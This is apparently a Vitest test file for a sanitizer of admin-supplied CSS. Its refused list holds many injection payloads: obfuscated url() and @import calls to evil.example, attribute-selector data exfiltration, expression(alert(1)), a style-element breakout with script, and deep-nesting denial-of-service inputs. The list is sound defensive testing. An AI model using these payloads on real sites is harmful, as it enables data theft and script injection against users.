import { describe, expect, it } from 'vitest';
import { readStyle } from './own-style.ts';

const sha = 'ab'.repeat(32);

/** What is taken, with what is served for it. */
const taken: readonly (readonly [string, string])[] = [
  ['', ''],
  ['a { color: red }', 'a{color:red}'],
  ['/* a note */ a{color/* x */:red;;}', 'a{color:red;;}'],
  [
    `.shell-top{background:url( "/logo/${sha}.png" ) center / cover}`,
    `.shell-top{background:url(/logo/${sha}.png)center/cover}`,
  ],
  ['@media (width >= 48rem){a:hover{color:red}}', '@media (width>=48rem){a:hover{color:red}}'],
  ['@supports (display: grid){a{display:grid}}', '@supports (display:grid){a{display:grid}}'],
  ['@container side (min-width: 20rem){a{gap:1px}}', '@container side (min-width:20rem){a{gap:1px}}'],
  ['@layer mine{a{color:red}}', '@layer mine{a{color:red}}'],
  ['.a{color:red;&:hover{color:blue}}', '.a{color:red;&:hover{color:blue}}'],
  ['a::before{content:"\\201C </style>"}', 'a::before{content:"“</style>"}'],
  [
    'a{--x: 1px;width:calc(100% - var(--x));color:light-dark(#fff,#000)}',
    'a{--x:1px;width:calc(100% - var(--x));color:light-dark(#fff,#000)}',
  ],
  [
    '[data-theme="dark"] .card:not(.x, .y){opacity:.9!important}',
    '[data-theme="dark"] .card:not(.x,.y){opacity:.9!important}',
  ],
];

/** What is refused: each would load, run or hide something, or browsers might read it otherwise than the site. */
const refused: Readonly<Record<string, string>> = {
  'another host': 'a{background:url(https://evil.example/x)}',
  'another host in quotation marks': 'a{background:url("//evil.example/x")}',
  'a path that is no picture of the site': 'a{background:url(/api/v1/auth/sign-out)}',
  'a path that begins like a picture': `a{background:url(/logo/${sha}.png/../../x)}`,
  'an inline document': "a{background:url('data:image/svg+xml,<svg/>')}",
  'an escaped url()': 'a{background:u\\72l(https://evil.example/x)}',
  'an escaped url() with a string': 'a{background:\\75 \\72 \\6c ("https://evil.example/x")}',
  'URL() in capitals': 'a{background:URL(https://evil.example/x)}',
  'url() over a comment': 'a{background:url(/**/https://evil.example/x)}',
  'image-set()': 'a{background:image-set("https://evil.example/x" 1x)}',
  '-webkit-image-set()': 'a{background:-webkit-image-set("https://evil.example/x" 1x)}',
  'src()': 'a{background:src("https://evil.example/x")}',
  'image()': 'a{background:image("https://evil.example/x")}',
  'cross-fade()': 'a{background:cross-fade(url(https://evil.example/x), red)}',
  'element()': 'a{background:-moz-element(#password)}',
  'attr()': 'a::after{content:attr(value)}',
  'expression()': 'a{width:expression(alert(1))}',
  'an escaped expression()': 'a{width:e\\78pression("x")}',
  behavior: 'a{behavior:none}',
  'an escaped behavior': 'a{beh\\61vior:none}',
  '-moz-binding': 'a{-moz-binding:none}',
  'a filter of old browsers': 'a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="x")}',
  'a cursor': 'a{cursor:url(https://evil.example/x),auto}',
  'a url() in a custom property': ':root{--x:url(https://evil.example/x)}',
  'a url() behind var()': 'a{background:var(--x, url(https://evil.example/x))}',
  'a url() deep in functions': 'a{background:linear-gradient(red, var(--a, var(--b, url(x))))}',
  'what the value of a field starts with': 'input[value^="a"]{background:url(https://evil.example/?a)}',
  '@import': '@import "https://evil.example/x.css";',
  '@import with url()': '@import url(//evil.example/x.css);',
  'an escaped @import': '@\\69mport "https://evil.example/x.css";',
  '@IMPORT in capitals': '@IMPORT "x";',
  '@import inside @media': '@media screen{@import "x";}',
  '@import inside @layer': '@layer x{@import "x";}',
  '@font-face': '@font-face{font-family:x;src:local(x)}',
  '@namespace': '@namespace "http://evil.example";',
  '@charset': '@charset "utf-7";',
  '@property': '@property --x{syntax:"*";inherits:true}',
  '@keyframes': '@keyframes x{to{opacity:0}}',
  '@page': '@page{margin:0}',
  '@document': '@-moz-document url(https://evil.example){a{color:red}}',
  'the end of a style element': '</style><script>alert(1)</script>',
  'the end of a style element in a value': 'a{color:</style>}',
  'signs of HTML comments': '<!-- a{color:red} -->',
  'an unclosed string': 'a{content:"abc\n;color:red}',
  'an unclosed url()': 'a{background:url(https://evil.example/',
  'a brace too many': 'a{color:red}}b{color:red}',
  'a block in a custom property': 'a{--x:{b:c}}',
  'a null': 'a{color:red}\u0000',
  'an escape sequence of terminals': 'a{color:red}\u001b[2J',
  'rules nested deeply': `${'a{&:hover{'.repeat(20)}color:red${'}}'.repeat(20)}`,
  'at-rules nested deeply': `${'@media screen{'.repeat(400)}a{color:red}${'}'.repeat(400)}`,
  'selectors nested deeply': `${':is('.repeat(300)}a${')'.repeat(300)}{color:red}`,
  'values nested deeply': `a{width:calc${'('.repeat(9000)}1px${')'.repeat(9000)}}`,
  'blocks nested deeply': `a{--x:${'['.repeat(9000)}${']'.repeat(9000)}}`,
  'a huge selector': `${'a '.repeat(5000)}{color:red}`,
  'a huge compound selector': `${'.a'.repeat(5000)}{color:red}`,
  'a huge list of selectors': `${'a,'.repeat(5000)}a{color:red}`,
  'parentheses without end': `a{width:calc${'('.repeat(5000)}`,
};

describe("an admin's style", () => {
  it.each(taken)('takes %j', (source, css) => {
    expect(readStyle(source)).toEqual({ css, hash: expect.stringMatching(/^[0-9a-f]{32}$/) });
    // What is served is read as the same again.
    expect(readStyle(css)).toMatchObject({ css });
  });

  it.each(Object.entries(refused))('refuses %s', (_name, source) => {
    expect(readStyle(source)).toEqual({ fault: expect.stringMatching(/^(Line \d+: .+|There is a character .+)$/s) });
  });

  it('names the line of a fault', () => {
    expect(readStyle('a{color:red}\n\n@import "x";')).toEqual({
      fault: 'Line 3: @import is not allowed; @media, @supports, @container and @layer are.',
    });
  });
});
